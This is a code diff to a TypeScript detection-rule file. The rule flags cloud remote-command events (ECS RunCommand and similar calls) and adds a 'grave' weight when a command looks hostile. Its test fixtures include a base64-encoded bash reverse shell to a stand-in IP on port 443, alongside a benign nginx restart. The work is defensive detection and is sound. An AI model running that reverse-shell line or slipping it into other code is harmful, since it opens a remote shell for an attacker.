@@ -1,4 +1,7 @@
+import { carriesHostileScript } from '../commands';
 import type { Rule } from './model';
+
+const base64 = (text: string) => Buffer.from(text).toString('base64');
 
 /** What costs money, what runs, and what is gone. */
 export const RESOURCES: readonly Rule[] = [
@@ -48,9 +51,17 @@ export const RESOURCES: readonly Rule[] = [
     },
     services: /^(ecs|ecd|swas.*)$/i,
     calls: /^(RunCommand|InvokeCommand|CreateCommand|SendFile|StartTerminalSession)$/,
-    weight: 'strong',
+    // Whoever runs commands every day does not lead a shell into the network.
+    weight: (event) => (carriesHostileScript(event) ? 'grave' : 'strong'),
     burst: 3,
-    fires: [{ call: 'Ecs RunCommand', weight: 'strong' }],
+    fires: [
+      {
+        call: 'Ecs RunCommand',
+        request: { CommandContent: base64('bash -i >& /dev/tcp/203.0.113.9/443 0>&1') },
+        weight: 'grave',
+      },
+      { call: 'Ecs RunCommand', request: { CommandContent: base64('systemctl restart nginx') }, weight: 'strong' },
+    ],
     silent: [{ call: 'Ecs DescribeInvocations' }],
   },
   {
